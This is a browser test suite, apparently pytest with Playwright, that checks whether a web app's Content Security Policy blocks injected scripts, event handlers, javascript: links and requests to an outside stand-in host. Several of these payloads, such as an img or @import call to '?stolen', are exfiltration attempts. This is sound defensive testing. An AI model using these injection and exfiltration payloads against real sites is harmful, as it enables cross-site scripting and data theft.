"""The Content Security Policy and hostile text in a real browser: what it blocks is counted."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page

from tests.web.conftest import PATIENCE, serve
from tests.web.security.hostile import EVIL, write_hostile
from tests.web.security.test_markup import CELL, ITEM

pytestmark = pytest.mark.browser

WATCH = """() => {
    window.blocked = [];
    window.hit = (number) => (window.__hit = number);
    document.addEventListener("securitypolicyviolation", (event) => window.blocked.push(event.effectiveDirective));
}"""
INJECT = {
    "an inline script": ("script-src-elem", """() => {
        const script = document.createElement("script");
        script.textContent = "hit(1)";
        document.body.append(script);
    }"""),
    "an event handler": ("script-src-attr", """() => {
        document.body.insertAdjacentHTML("beforeend", '<button id="bait" onclick="hit(2)">x</button>');
        document.getElementById("bait").click();
    }"""),
    "a javascript: link": ("script-src-elem", """() => {
        document.body.insertAdjacentHTML("beforeend", '<a id="bait" href="javascript:hit(3)">x</a>');
        document.getElementById("bait").click();
    }"""),
    "a script of another site": ("script-src-elem", """() => {
        const script = document.createElement("script");
        script.src = "https://elsewhere.invalid/evil.js";
        document.body.append(script);
    }"""),
    "a form to another site": ("form-action", """() => {
        document.body.insertAdjacentHTML("beforeend", '<form id="bait" action="https://elsewhere.invalid/"></form>');
        document.getElementById("bait").submit();
    }"""),
    "a picture of another site": ("img-src", """() => {
        document.body.insertAdjacentHTML("beforeend", '<img alt="" src="https://elsewhere.invalid/?stolen">');
    }"""),
    "a style that loads one of another site": ("style-src-elem", """() => {
        document.body.insertAdjacentHTML("beforeend", "<style>@import url(https://elsewhere.invalid/?stolen)</style>");
    }"""),
    "a request to another site": ("connect-src", "() => fetch('https://elsewhere.invalid/').catch(() => 0)"),
    "a frame of another site": ("frame-src", """() => {
        document.body.insertAdjacentHTML("beforeend", '<iframe title="x" src="https://elsewhere.invalid/"></iframe>');
    }"""),
}  # fmt: skip


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The app over a framework whose every text is hostile."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("VALUECHAIN_DATA", str(write_hostile(tmp_path_factory.mktemp("hostile"))))
        with serve() as address:
            yield address


@pytest.fixture
def tab(browser: Browser) -> Iterator[Page]:
    """A page that says of every script that ran."""
    with browser.new_context() as context:
        context.add_init_script("window.hit = (number) => (window.__hit = number);")
        page = context.new_page()
        page.set_default_timeout(PATIENCE)
        page.on("dialog", lambda dialog: pytest.fail(f"A script ran: {dialog.message}"))
        yield page


@pytest.mark.parametrize("path", ["/", "/join"])
@pytest.mark.parametrize(("directive", "script"), INJECT.values(), ids=INJECT)
def test_what_is_slipped_into_a_page_is_blocked(tab: Page, site: str, path: str, directive: str, script: str) -> None:
    """Whatever is slipped into a page runs nothing and sends nothing, and the browser reports what it blocked."""
    tab.goto(site + path)
    tab.evaluate(WATCH)
    tab.evaluate(script)
    tab.wait_for_function("() => window.blocked.length > 0")
    assert tab.evaluate("() => [window.blocked[0], window.__hit || 0]") == [directive, 0]


@pytest.mark.parametrize(
    "path",
    [
        f"/?{CELL}",
        f"/?{CELL}&view=map",
        f"/mitigation?{CELL}&item={ITEM}",
        f"/actor?{CELL}&item={ITEM}",
        f"/findings?{CELL}",
        "/across",
        "/sources",
        "/search?q=script",
        f"/api/v1/matrix.svg?{CELL}",
        f"/api/v1/map.svg?{CELL}",
        f"/api/v1/briefing.html?{CELL}",
        f"/api/v1/graph.graphml?{CELL}",
    ],
)
def test_hostile_text_runs_nothing(tab: Page, hostile_site: str, path: str) -> None:
    """No text runs a script: on no page, and in no picture or document that is opened directly."""
    is_download = "graphml" in path
    blocked: list[str] = []
    tab.on("console", lambda message: blocked.append(message.text) if "Content Security" in message.text else None)
    if is_download:
        tab.goto(f"{hostile_site}/healthz")
        tab.evaluate("(path) => fetch(path).then((answer) => answer.text())", path)
    else:
        tab.goto(hostile_site + path)
    if not path.startswith("/api/"):
        tab.wait_for_selector("main [data-page]")
        tab.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")
    assert tab.evaluate("() => window.__hit || 0") == 0
    assert tab.locator("img[src=x], svg[onload], [onerror]").count() == 0
    assert blocked == []


def test_a_picture_of_hostile_text_says_what_it_is(tab: Page, hostile_site: str) -> None:
    """The text itself is there, as text."""
    tab.goto(f"{hostile_site}/api/v1/matrix.svg?{CELL}")
    assert EVIL.split("<", maxsplit=1)[0] in tab.content()


def test_a_script_in_a_picture_is_blocked(tab: Page, site: str) -> None:
    """A picture that is opened directly has a policy without scripts, should one ever get in."""
    tab.goto(f"{site}/api/v1/matrix.svg?framework=pai-open&model-type=advanced&release-type=open")
    tab.evaluate(WATCH)
    tab.evaluate("""() => {
        const script = document.createElementNS("http://www.w3.org/2000/svg", "script");
        script.textContent = "hit(1)";
        document.documentElement.append(script);
    }""")
    tab.wait_for_function("() => window.blocked.length > 0")
    assert tab.evaluate("() => window.__hit || 0") == 0
